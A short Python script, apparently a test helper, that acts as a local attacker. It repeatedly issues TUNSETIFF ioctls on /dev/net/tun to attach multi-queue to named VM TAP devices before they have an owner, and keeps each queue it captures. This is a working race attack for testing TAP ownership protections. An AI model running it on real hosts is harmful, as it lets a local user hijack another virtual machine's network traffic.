#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""A local user who wants a queue of a VM's TAP.

	tap_thief.py DEVICE...

Tries to attach to the devices all the time, to be there before they have an owner, and keeps each queue
that it gets. Prints "tries", and "got DEVICE" for each; ends at SIGTERM.
"""
import fcntl
import os
import struct
import sys

TUNSETIFF = 0x400454CA
IFF_TAP, IFF_NO_PI, IFF_VNET_HDR, IFF_MULTI_QUEUE = 0x2, 0x1000, 0x4000, 0x100


def main():
    flags = IFF_TAP | IFF_NO_PI | IFF_VNET_HDR | IFF_MULTI_QUEUE
    wanted = [(name, struct.pack("16sH22x", name.encode(), flags)) for name in sys.argv[1:]]
    kept = []
    fd = os.open("/dev/net/tun", os.O_RDWR | os.O_NONBLOCK)
    print("tries", flush=True)
    while True:
        for name, request in wanted:
            try:
                fcntl.ioctl(fd, TUNSETIFF, request)
            except OSError:
                continue
            print("got", name, flush=True)
            kept.append(fd)
            fd = os.open("/dev/net/tun", os.O_RDWR | os.O_NONBLOCK)


if __name__ == "__main__":
    main()
